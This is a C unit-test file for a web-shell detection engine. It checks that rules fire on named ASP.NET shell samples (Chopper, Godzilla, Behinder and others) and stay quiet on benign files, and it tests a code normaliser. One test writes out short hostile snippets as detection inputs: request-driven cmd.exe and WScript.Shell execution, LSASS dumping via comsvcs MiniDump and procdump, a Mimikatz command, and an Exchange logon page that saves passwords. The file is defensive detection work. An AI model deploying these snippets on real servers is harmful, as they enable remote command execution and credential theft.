/* test_rules.c: the built-in web-shell rules, one test per behaviour family, on real
 * samples from the shared corpus (positives: the family's rule must fire) and on every
 * real benign ASP.NET file and OWA page there (negatives: no rule may fire). Also the
 * normaliser steps the rules rely on. Corpus files are read where they are; a missing
 * corpus skips these tests with a message. */
#include "testutil.h"
#include "core/buf.h"
#include "hunt/hunt.h"
#include "hunt/normalize.h"
#include "normalize_ref.h"
#include <dirent.h>
#include <sys/stat.h>

static struct exr_hunt_rules *rules;

static const char *corpus_dir(void)
{
    const char *d = getenv("EXR_CORPUS");
    return d ? d : "../shared/corpus";
}

static int setup(void **st)
{
    (void)st;
    exr_hunt_opts o;
    memset(&o, 0, sizeof o);
    exr_err e = {0, ""};
    void *r = NULL;
    if (exr_hunt_rules_load(&o, &r, &e) != 0) {
        fprintf(stderr, "rules: %s\n", e.msg);
        return -1;
    }
    rules = r;
    return 0;
}

static int teardown(void **st)
{
    (void)st;
    exr_hunt_rules_free(rules);
    return 0;
}

/* The names of the rules that match a file, ", "-joined; false if the file is missing. */
static bool match_file(const char *path, char *out, size_t n)
{
    exr_buf b;
    exr_buf_init(&b);
    if (exr_read_file(path, 64u << 20, &b) != 0) {
        exr_buf_free(&b);
        return false;
    }
    const char *names[16];
    int k = exr_hunt_rules_match(rules, (const unsigned char *)b.p, b.len, names, 16);
    assert_true(k >= 0);
    out[0] = 0;
    for (int i = 0; i < k && i < 16; i++) {
        strncat(out, names[i], n - strlen(out) - 1);
        strncat(out, ",", n - strlen(out) - 1);
    }
    exr_buf_free(&b);
    return true;
}

typedef struct sample {
    const char *file; /* under corpus */
    const char *rule; /* must be among the matches */
} sample;

static void check_family(const sample *s, size_t n)
{
    size_t seen = 0;
    for (size_t i = 0; i < n; i++) {
        char path[1024], got[2048];
        snprintf(path, sizeof path, "%s/%s", corpus_dir(), s[i].file);
        if (!match_file(path, got, sizeof got))
            continue;
        seen++;
        char want[128];
        snprintf(want, sizeof want, "%s,", s[i].rule);
        if (!strstr(got, want))
            fail_msg("%s: expected %s, matched [%s]", s[i].file, s[i].rule, got);
    }
    if (!seen) {
        fprintf(stderr, "  skip: corpus not found at %s (set EXR_CORPUS)\n", corpus_dir());
        skip();
    }
}

#define FAMILY(name, ...)                                                                                                                  \
    static void name(void **st)                                                                                                            \
    {                                                                                                                                      \
        (void)st;                                                                                                                          \
        static const sample s[] = {__VA_ARGS__};                                                                                           \
        check_family(s, sizeof s / sizeof s[0]);                                                                                           \
    }

FAMILY(test_chopper_eval, {"webshells/tennc_abcd.aspx", "exray_jscript_server_eval"},
       {"webshells/tennc_caidao_ice.aspx", "exray_eval_request"}, {"train/webshells/ysrc_f234da0c4512.aspx", "exray_eval_request"},
       {"train/webshells/tennc_2022-08-12.aspx.txt", "exray_jscript_server_eval"},
       {"train/webshells/ysrc_929951f74efa.aspx", "exray_jscript_server_eval"},
       {"train/webshells/ysrc_8f8b5684a19a.aspx", "exray_script_control"},
       {"webshells/tennc_caidao_customize.ashx", "exray_chopper_customize"})

FAMILY(test_command_execution, {"train/webshells/payloadsallthethings_shell.aspx", "exray_exec_shell_interpreter"},
       {"train/webshells/ysrc_1c0ea48007e7.aspx", "exray_exec_wscript"},
       {"train/webshells/fdlucifer_ProxyMaybeShell_POWERshell.aspx", "exray_exec_powershell_runspace"},
       {"train/webshells/9aylas_InsomniaShell.aspx", "exray_exec_createprocess_pinvoke"},
       {"train/webshells/ysrc_b99bd028b8e0.aspx", "exray_exec_redirected_from_input"},
       {"train/webshells/h4rk3nz0_shell.aspx", "exray_exec_reflected_process"},
       {"webshells/tennc_nishang_antak.aspx", "exray_exec_shell_interpreter"})

FAMILY(test_loaders, {"train/webshells/behinder_shell.aspx", "exray_loader_assembly_from_payload"},
       {"train/webshells/antsword-csharp_shell.aspx", "exray_loader_create_instance"},
       {"train/webshells/0x7556_godzilla_aspx_g1_variant_61.aspx", "exray_loader_reflect_decrypted_request"},
       {"train/webshells/0x7556_wolfshell_aspx_w2_variant_31.aspx", "exray_loader_assembly_from_payload"},
       {"train/webshells/volcanohatred_shell.aspx", "exray_loader_assembly_from_payload"},
       {"train/webshells/sharpyshell_template_raw_aes.aspx", "exray_loader_runtime_compile"},
       {"train/webshells/sharpyshell_template_encrypted_dll.aspx", "exray_loader_reflection_chain"},
       {"webshells/tennc_Godzilla_123.aspx", "exray_loader_assembly_from_payload"})

FAMILY(test_memory_shells, {"train/webshells/cyragorn_NapListener.aspx", "exray_memshell_httplistener"},
       {"train/webshells/3gstudent_PageLoad_ghostfile.aspx", "exray_memshell_virtualpath"},
       {"train/webshells/cyragorn_routehandlerant.aspx", "exray_memshell_route_filter"},
       {"train/webshells/orzchen_behinderMem.cshtml", "exray_memshell_aspnetcore"},
       {"train/webshells/karmaz95_platform_no_xor.aspx", "exray_shellcode_runner"})

FAMILY(test_files_and_sql, {"train/webshells/xl7dev_shell.ascx", "exray_writer_script_page"},
       {"train/webshells/xl7dev_include.ashx", "exray_writer_script_page"},
       {"train/webshells/ysrc_2517657fc02b.aspx", "exray_sql_client_from_request"},
       {"webshells/tennc_ASPXspy2.aspx", "exray_full_shell_capabilities"},
       {"train/webshells/9aylas_WOLF.aspx", "exray_full_shell_capabilities"})

FAMILY(test_tunnels, {"train/webshells/tunna_conn.aspx", "exray_tunnel_socket_commands"},
       {"train/webshells/ferryman_tunnel.aspx", "exray_tunnel_socket_commands"},
       {"train/webshells/zsy107u_tunnel.ashx", "exray_tunnel_socket_commands"},
       {"train/webshells/suo5_suo5.aspx", "exray_tunnel_socket_commands"}, {"train/webshells/pystinger_proxy.aspx", "exray_tunnel_relay"},
       {"train/webshells/tennc_websniff1.0-linux.aspx", "exray_tunnel_sniffer"})

FAMILY(test_handlers_services_config, {"train/webshells/ysrc_asmxScriptMethodSpy.asmx", "exray_jscript_server_eval"},
       {"train/webshells/ysrc_svcLessSpy.svc", "exray_jscript_server_eval"},
       {"train/webshells/payloadsallthethings_shell.asmx", "exray_exec_wscript"}, {"webshells/tennc_web.config", "exray_webconfig_script"},
       {"webshells/tennc_as.ashx", "exray_exec_redirected_from_input"})

FAMILY(test_recon_and_persistence, {"train/webshells/xiao-webshell_readiis.aspx", "exray_recon_iis_passwords"},
       {"train/webshells/vickybravo_2019-04-11_Global.asax", "exray_seo_cloaking_global"},
       {"train/webshells/tegal1337_add-admin-windows.aspx", "exray_add_admin"},
       {"train/webshells/cunlin-yu_help_F4ckTeam.aspx", "exray_exec_server_com_object"},
       {"train/webshells/xiao-webshell_dir.aspx", "exray_recon_registry_hives"})

FAMILY(test_exchange_2021, {"webshells/zer010bs_inthewild_OAB-shell_HTTP-response_2021-03-22.txt", "exray_oab_vdir_dump_bogus_url"})

/* Variants written here from the families' public descriptions (not corpus files, so they
 * run without the corpus): each must fire its rule, and a near miss beside it must not. */
typedef struct written {
    const char *text, *rule; /* rule NULL: no rule may fire */
} written;

static void match_text(const char *text, char *out, size_t n)
{
    const char *names[16];
    int k = exr_hunt_rules_match(rules, (const unsigned char *)text, strlen(text), names, 16);
    assert_true(k >= 0);
    out[0] = 0;
    for (int i = 0; i < k && i < 16; i++) {
        strncat(out, names[i], n - strlen(out) - 1);
        strncat(out, ",", n - strlen(out) - 1);
    }
}

static void test_written_variants(void **st)
{
    (void)st;
    static const written w[] = {
        /* Process reached by reflection through an assembly-qualified type name */
        {"<%@ Page Language=\"C#\" %><% var t = Type.GetType(\"Sys\" + \"tem.Diag\" + \"nostics.Pro\" + \"cess, System, Version=4.0.0.0\");"
         " t.GetMethod(\"Start\", new Type[] { typeof(string), typeof(string) }).Invoke(null, new object[] { \"cmd.exe\", \"/c \" + "
         "Request[\"x\"] }); %>",
         "exray_exec_reflected_process"},
        /* WScript.Shell by ProgID, driven by InvokeMember */
        {"<%@ Page Language=\"C#\" %><% object sh = Activator.CreateInstance(Type.GetTypeFromProgID(\"WScript.Shell\"));"
         " sh.GetType().InvokeMember(\"Run\", System.Reflection.BindingFlags.InvokeMethod, null, sh, new object[] { Request[\"c\"], 0, "
         "true }); %>",
         "exray_exec_com_late_bound"},
        {"<%@ Page Language=\"C#\" %><% object x = Activator.CreateInstance(Type.GetTypeFromProgID(\"Excel.Application\"));"
         " x.GetType().InvokeMember(\"Run\", System.Reflection.BindingFlags.InvokeMethod, null, x, null); %>",
         NULL},
        {"<%@ Page Language=\"C#\" %><% dynamic sa = Activator.CreateInstance(Type.GetTypeFromProgID(\"Shell.Application\"));"
         " sa.Namespace(Server.MapPath(\"~/up\")).CopyHere(sa.Namespace(Server.MapPath(\"~/a.zip\")).Items()); Task.Run(() => Clean()); %>",
         NULL},
        /* LSASS dumped through comsvcs.dll, procdump, Mimikatz */
        {"<%@ Page Language=\"C#\" %><% System.Diagnostics.Process.Start(\"rundll32.exe\", @\"C:\\windows\\system32\\comsvcs.dll, MiniDump "
         "\" + pid + @\" C:\\windows\\temp\\l.dmp full\"); %>",
         "exray_credential_dump_lsass"},
        {"procdump64.exe -accepteula -ma lsass.exe c:\\root\\l.dmp", "exray_credential_dump_lsass"},
        {"<% Response.Write(\"sekurlsa::logonpasswords\"); %>", "exray_credential_dump_lsass"},
        {"<%@ Page Language=\"C#\" %><% /* crash reports */ MiniDumpWriteDump(h, pid, f, 2, IntPtr.Zero, IntPtr.Zero, IntPtr.Zero); %>",
         NULL},
        /* file manager: delete, list, send back request paths */
        {"<%@ Page Language=\"C#\" %><% if (Request[\"del\"] != null) System.IO.File.Delete(Request[\"del\"]); %>",
         "exray_file_manager_request_paths"},
        {"<%@ Page Language=\"C#\" %><% Response.Write(System.IO.File.ReadAllText(Request[\"f\"])); %>",
         "exray_file_manager_request_paths"},
        {"<%@ Page Language=\"C#\" %><% Response.WriteFile(Server.MapPath(\"~/files/report.pdf\")); %>", NULL},
        /* registry key named by the request */
        {"<%@ Page Language=\"C#\" %><% var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(Request[\"k\"]); %>",
         "exray_recon_registry_request"},
        {"<%@ Page Language=\"C#\" %><% var k = Microsoft.Win32.Registry.LocalMachine.OpenSubKey(\"SOFTWARE\\\\Vendor\\\\App\"); %>", NULL},
        /* deserialization of request data; ASP.NET's own __ fields are not a shell */
        {"<%@ Page Language=\"C#\" %><% new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize("
         "new System.IO.MemoryStream(Convert.FromBase64String(Request.Form[\"d\"]))); %>",
         "exray_loader_deserialize_request"},
        {"<%@ Page Language=\"C#\" %><% new System.Web.UI.LosFormatter().Deserialize(Request[\"v\"]); %>",
         "exray_loader_deserialize_request"},
        {"<%@ Page Language=\"C#\" %><% object o = new System.Web.UI.LosFormatter().Deserialize(Request.Form[\"__VSTATE\"]); %>", NULL},
        /* a stylesheet from the request compiled with scripts enabled */
        {"<%@ Page Language=\"C#\" %><% var x = new System.Xml.Xsl.XslCompiledTransform();"
         " x.Load(new System.Xml.XmlTextReader(new System.IO.StringReader(Request.Form[\"xsl\"])), new System.Xml.Xsl.XsltSettings(false, "
         "true), null); %>",
         "exray_xslt_script"},
        {"<%@ Page Language=\"C#\" %><% var x = new System.Xml.Xsl.XslCompiledTransform(); x.Load(Server.MapPath(\"~/t.xslt\"));"
         " x.Transform(Server.MapPath(\"~/d.xml\"), null, Response.Output); string q = Request[\"q\"]; %>",
         NULL},
        /* a logon page that keeps what users type */
        {"<%@ Page language=\"c#\" Inherits=\"Microsoft.Exchange.HttpProxy.Logon\" %><script runat=\"server\">"
         "protected override void OnLoad(EventArgs e) { string u = Request.Form[\"username\"], p = Request.Form[\"password\"];"
         " System.IO.File.AppendAllText(@\"C:\\inetpub\\wwwroot\\aspnet_client\\x.gif\", u + \":\" + p); base.OnLoad(e); }</script>",
         "exray_credential_harvest"},
        {"<%@ Page Language=\"C#\" %><% if (Membership.ValidateUser(Request.Form[\"username\"], Request.Form[\"password\"]))"
         " FormsAuthentication.RedirectFromLoginPage(Request.Form[\"username\"], false); %>",
         NULL},
        /* a page starting a process from request data through a variable or an initializer */
        {"<%@ Page Language=\"C#\" %><% var a = Request.Headers[\"X-A\"]; var psi = new "
         "System.Diagnostics.ProcessStartInfo(a.Split('|')[0], a.Split('|')[1]);"
         " System.Diagnostics.Process.Start(psi); %>",
         "exray_exec_page_process_request"},
        /* the same calls in a code-behind file (no page directive) are left to the other rules */
        {"public partial class NewsView : System.Web.UI.Page { string Get(string key) { return Request[key] != null ? "
         "Request[key].ToString() : \"\"; }"
         " void Open(string fileName) { System.Diagnostics.Process.Start(\"WINWORD.EXE\", fileName); } }",
         NULL},
        /* the request names the type and method that run */
        {"<%@ WebHandler Language=\"C#\" Class=\"H\" %> public class H : System.Web.IHttpHandler { public void "
         "ProcessRequest(System.Web.HttpContext c) {"
         " var t = System.Type.GetType(c.Request.Form[\"t\"]); "
         "t.GetMethod(c.Request.Form[\"m\"]).Invoke(System.Activator.CreateInstance(t), null); } }",
         "exray_loader_reflection_from_request"},
        /* an App_Code module reaching the request through its own context variable */
        {"public class M : System.Web.IHttpModule { public void Init(System.Web.HttpApplication app) { app.BeginRequest += (s, e) => {"
         " var ctx = ((System.Web.HttpApplication)s).Context; if (ctx.Request.Headers[\"X-K\"] == \"k\")"
         " System.Diagnostics.Process.Start(ctx.Request.Form[\"f\"], ctx.Request.Form[\"a\"]); }; } public void Dispose() { } }",
         "exray_exec_request_direct"},
        /* a class of an installed DLL handed the page through Equals(Context) */
        {"<%@ Page Language=\"C#\" %><% "
         "System.Reflection.Assembly.LoadFile(Server.MapPath(\"~/bin/x.dll\")).CreateInstance(\"X\").Equals(Context); %>",
         "exray_loader_instance_handed_context"},
    };
    for (size_t i = 0; i < sizeof w / sizeof w[0]; i++) {
        char got[2048];
        match_text(w[i].text, got, sizeof got);
        if (!w[i].rule) {
            if (got[0])
                fail_msg("variant %zu: expected no rule, matched [%s]", i, got);
            continue;
        }
        char want[128];
        snprintf(want, sizeof want, "%s,", w[i].rule);
        if (!strstr(got, want))
            fail_msg("variant %zu: expected %s, matched [%s]", i, w[i].rule, got);
    }
}

/* Every benign file in the corpus: no rule may fire. */
static void walk_benign(const char *dir, int *files, char *bad, size_t badn)
{
    DIR *d = opendir(dir);
    if (!d)
        return;
    struct dirent *de;
    while ((de = readdir(d))) {
        if (de->d_name[0] == '.')
            continue;
        char p[2048];
        snprintf(p, sizeof p, "%s/%s", dir, de->d_name);
        struct stat stt;
        if (lstat(p, &stt) != 0)
            continue;
        if (S_ISDIR(stt.st_mode)) {
            walk_benign(p, files, bad, badn);
            continue;
        }
        char got[2048];
        if (!match_file(p, got, sizeof got))
            continue;
        (*files)++;
        if (got[0] && strlen(bad) + strlen(p) + strlen(got) + 8 < badn) {
            strcat(bad, p);
            strcat(bad, ": ");
            strcat(bad, got);
            strcat(bad, "\n");
        }
    }
    closedir(d);
}

static void test_benign_quiet(void **st)
{
    (void)st;
    static const char *const dirs[] = {"train/benign", "benign", "owa"};
    int files = 0;
    char bad[8192] = "";
    for (size_t i = 0; i < 3; i++) {
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", corpus_dir(), dirs[i]);
        walk_benign(p, &files, bad, sizeof bad);
    }
    if (!files) {
        fprintf(stderr, "  skip: corpus not found at %s\n", corpus_dir());
        skip();
    }
    if (bad[0])
        fail_msg("benign files matched:\n%s", bad);
    fprintf(stderr, "  %d benign files, none matched\n", files);
}

static size_t norm(const char *in, char *out)
{
    size_t n = exr_normalize((const unsigned char *)in, strlen(in), (unsigned char *)out);
    out[n] = 0;
    return n;
}

static void test_normalize(void **st)
{
    (void)st;
    char out[512];
    norm("\"ev\"+\"al\"('x')", out);
    assert_string_equal(out, "\"eval\"('x')");
    norm("\"ev\" & _\r\n \"al\"", out);
    assert_string_equal(out, "\"eval\"");
    norm("var/*-/*-*/P/*-/*-*/=1", out);
    assert_string_equal(out, "var P =1");
    norm("\\u0065v\\x61l(&#82;equest&#x2e;Item)", out);
    assert_string_equal(out, "eval(Request.Item)");
    norm("new char[]{'a', 'b','c'}", out);
    assert_string_equal(out, "new char[]{'abc'}");
    norm("<%-- hidden --%>x", out);
    assert_string_equal(out, " x");
    /* an unclosed comment is kept, not swallowing the rest */
    norm("a /* b", out);
    assert_string_equal(out, "a /* b");
    /* UTF-16LE with and without BOM, UTF-16BE */
    const unsigned char le[] = {0xFF, 0xFE, 'e', 0, 'v', 0, 'a', 0, 'l', 0, '(', 0, 'R', 0, 'e', 0, 'q', 0};
    size_t n = exr_normalize(le, sizeof le, (unsigned char *)out);
    out[n] = 0;
    assert_string_equal(out, "eval(Req");
    const unsigned char be[] = {0, '<', 0, '%', 0, 'e', 0, 'v', 0, 'a', 0, 'l', 0, '(', 0, 'R', 0, 'e', 0, 'q'};
    n = exr_normalize(be, sizeof be, (unsigned char *)out);
    out[n] = 0;
    assert_string_equal(out, "<%eval(Req");
    /* a binary file keeps its bytes and gains its UTF-16 strings */
    const unsigned char bin[] = {'M', 'Z', 0, 1, 2, 'c', 0, 'm', 0, 'd', 0, '.', 0, 'e', 0, 'x', 0, 'e', 0, 0, 0};
    n = exr_normalize(bin, sizeof bin, (unsigned char *)out);
    assert_non_null(memmem(out, n, "cmd.exe\n", 8));
}

/* The fast normaliser equals the reference byte for byte: on generated texts dense in every
 * step's triggers, and on every file of the shared corpus (skipped without it). */
static void same_as_ref(const unsigned char *in, size_t n, const char *what)
{
    unsigned char *a = malloc(exr_norm_cap(n)), *b = malloc(exr_norm_cap(n));
    size_t na = exr_normalize(in, n, a), nb = ref_normalize(in, n, b);
    if (na != nb || memcmp(a, b, na) != 0)
        fail_msg("%s: the normalised views differ (%zu and %zu bytes)", what, na, nb);
    free(a);
    free(b);
}

static int walk_same(const char *dir)
{
    DIR *d = opendir(dir);
    int n = 0;
    struct dirent *de;
    while (d && (de = readdir(d))) {
        char p[2048];
        struct stat st;
        snprintf(p, sizeof p, "%s/%s", dir, de->d_name);
        if (de->d_name[0] == '.' || stat(p, &st) != 0)
            continue;
        if (S_ISDIR(st.st_mode)) {
            n += walk_same(p);
            continue;
        }
        exr_buf b;
        exr_buf_init(&b);
        if (exr_read_file(p, 16u << 20, &b) == 0) {
            same_as_ref((const unsigned char *)(b.p ? b.p : ""), b.len, p);
            n++;
        }
        exr_buf_free(&b);
    }
    if (d)
        closedir(d);
    return n;
}

static void test_normalize_same_as_reference(void **st)
{
    (void)st;
    static const char *const bits[] = {"/*",     "*/",       "<%--",         "--%>", "\\u0065", "\\x41", "\\U0001F600", "&#82;",
                                       "&#x2e;", "&#;",      "\"",           "'",    "+",       "&",     " _\r\n ",     "'a'",
                                       ", ",     "\xA1\xB0", "\xE2\x80\x9C", "eval", "x",       "\n"};
    uint64_t x = 88172645463325252ull;
    unsigned char buf[600];
    for (int round = 0; round < 20000; round++) {
        size_t n = 0;
        while (n < sizeof buf - 16) {
            x ^= x << 13, x ^= x >> 7, x ^= x << 17;
            const char *b = bits[x % (sizeof bits / sizeof bits[0])];
            size_t l = strlen(b);
            memcpy(buf + n, b, l);
            n += l;
            if ((x >> 40) % 23 == 0)
                break;
        }
        same_as_ref(buf, n, "generated text");
    }
    int files = 0;
    static const char *const dirs[] = {"webshells", "benign", "owa", "train", "logs"};
    for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
        char p[1024];
        snprintf(p, sizeof p, "%s/%s", corpus_dir(), dirs[i]);
        files += walk_same(p);
    }
    fprintf(stderr, "  20000 generated texts and %d corpus files: the same view as the reference\n", files);
}

int main(void)
{
    const struct CMUnitTest t[] = {
        cmocka_unit_test(test_normalize),
        cmocka_unit_test(test_normalize_same_as_reference),
        cmocka_unit_test(test_chopper_eval),
        cmocka_unit_test(test_command_execution),
        cmocka_unit_test(test_loaders),
        cmocka_unit_test(test_memory_shells),
        cmocka_unit_test(test_files_and_sql),
        cmocka_unit_test(test_tunnels),
        cmocka_unit_test(test_handlers_services_config),
        cmocka_unit_test(test_recon_and_persistence),
        cmocka_unit_test(test_exchange_2021),
        cmocka_unit_test(test_written_variants),
        cmocka_unit_test(test_benign_quiet),
    };
    return cmocka_run_group_tests(t, setup, teardown);
}
